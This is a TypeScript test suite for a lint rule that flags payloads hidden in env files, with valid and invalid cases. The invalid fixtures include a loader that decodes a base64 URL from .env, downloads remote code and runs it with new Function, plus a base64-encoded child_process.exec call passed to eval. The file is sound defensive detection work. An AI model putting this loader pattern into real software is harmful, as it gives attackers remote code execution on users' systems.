import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/env-file-payload.ts'

const b64 = (s: string) => Buffer.from(s).toString('base64')
const hex = (s: string) => Buffer.from(s).toString('hex')

const loader = `const axios = require('axios')
async function boot() {
  const url = atob(process.env.CONFIG_SOURCE)
  const res = await axios.get(url)
  new Function('require', res.data)(require)
}
boot()`

new RuleTester().run(rule, {
  valid: [
    // plain URLs in .env used by fetch: ordinary configuration
    { name: 'a plain URL in .env', files: { '.env': 'API_URL=https://api.example.com/v1\n' }, code: "fetch(process.env.API_URL + '/items')" },
    // base64 values that decode to a word or bytes (a session secret), a hex private key
    { name: 'base64 secret and hex key', files: { '.env': `SESSION_SECRET=${b64('local-dev-session-secret')}\nPRIVATE_KEY=ac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80\n` }, code: "const s = Buffer.from(process.env.SESSION_SECRET, 'base64'); fetch('https://api.example.com', { headers: { s } })" },
    // an encoded URL that the code never decodes
    { name: 'encoded but not decoded', files: { '.env': `X=${b64('https://a.invalid/x')}\n` }, code: 'fetch(process.env.X)' },
    // decoded, but the file makes no request and runs nothing
    { name: 'decoded and only logged', files: { '.env': `X=${b64('https://a.invalid/x')}\n` }, code: 'console.log(atob(process.env.X))' },
    // no env file at all
    { name: 'no env file', code: loader },
  ],
  invalid: [
    {
      name: 'base64 URL in .env, decoded, fetched, compiled',
      files: { '.env': `PORT=3000\nCONFIG_SOURCE=${b64('https://cfg.invalid/api/on')}\n` },
      code: loader,
      errors: [{ severity: 'critical', line: 3, message: /CONFIG_SOURCE in \.env:2 \(base64 of "https:\/\/cfg\.invalid\/api\/on"\)/ }],
    },
    {
      name: 'hex URL in config/app.env, fetched without evaluation is high',
      files: { 'config/app.env': `SYNC=${hex('https://sync.invalid/pull')}\n` },
      code: "const https = require('https')\nconst u = Buffer.from(process.env.SYNC, 'hex').toString()\nhttps.get(u, (r) => r.pipe(process.stdout))",
      errors: [{ severity: 'high', message: /hex of "https:\/\/sync\.invalid\/pull"/ }],
    },
    {
      name: 'a raw-IP destination is critical',
      files: { '.env.local': `SRC=${b64('http://198.51.100.7:1224/client/1')}\n` },
      code: "fetch(atob(process.env.SRC)).then((r) => r.text()).then(console.log)",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'code kept encoded in .env and evaluated',
      files: { '.env': `BOOT=${b64("require('child_process').exec('id')")}\n` },
      code: "eval(Buffer.from(process.env['BOOT'], 'base64').toString())",
      errors: [{ severity: 'critical', message: 'code kept encoded in an env file' }],
    },
  ],
})
